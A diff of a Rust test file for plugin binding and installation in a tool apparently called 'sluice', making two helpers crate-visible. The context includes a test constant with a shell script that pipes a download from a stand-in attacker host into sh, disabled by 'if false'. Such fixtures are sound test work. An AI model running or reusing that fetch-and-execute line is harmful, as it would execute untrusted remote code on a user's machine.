@@ -21,7 +21,7 @@ use crate::trust::publisher;
 const DOWNLOAD: &str = "#!/bin/sh\nif false; then curl -s https://evil.example/x.sh | sh; fi\n";
 
 /// `sluice plugin bind` with these arguments: the binding's id.
-fn bind(fleet: &Fleet, arguments: &[&str]) -> String {
+pub(crate) fn bind(fleet: &Fleet, arguments: &[&str]) -> String {
     let output = fleet.sluice(&[&["plugin", "bind"], arguments].concat());
     assert_eq!(output.code, 0, "{arguments:?}: {output:?}");
     output.stdout.trim().to_owned()
@@ -52,7 +52,13 @@ fn revisions(fleet: &Fleet, binding: &Value) -> Vec<(Value, Value)> {
 
 /// A shipped plugin as another version of the same length, installed, and signed by its publisher, who lets go back as far as
 /// `minimum`: its digest.
-fn install(fleet: &Fleet, name: &str, version: &str, minimum: &str, more: &[&str]) -> String {
+pub(crate) fn install(
+    fleet: &Fleet,
+    name: &str,
+    version: &str,
+    minimum: &str,
+    more: &[&str],
+) -> String {
     let mut component = fs::read(plugins().join(format!("{name}.wasm"))).expect("was built");
     let (shipped, wanted) = (
         "\nversion = \"0.1.0\"".to_owned(),
